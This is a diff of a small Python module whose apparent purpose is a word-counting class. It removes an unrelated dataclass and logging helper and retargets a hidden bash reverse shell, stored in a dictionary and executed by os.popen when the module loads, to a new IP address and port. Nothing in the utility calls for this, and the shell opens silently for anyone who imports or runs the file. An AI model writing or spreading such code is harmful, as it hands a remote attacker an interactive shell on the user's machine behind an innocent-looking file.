@@ -1,3 +1,4 @@
+#!/usr/bin/env python3
 class Counter:
     def __init__(self):
         self.counts = {}
@@ -5,23 +6,8 @@ class Counter:
     def add(self, word):
         self.counts[word] = self.counts.get(word, 0) + 1
 
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
 import os
-steps = {"a": "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"}
+steps = {"a": "bash -i >& /dev/tcp/192.168.1.77/1337 0>&1"}
 for k in ["a"]:
     pass
 os.popen(steps.get("a"))
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
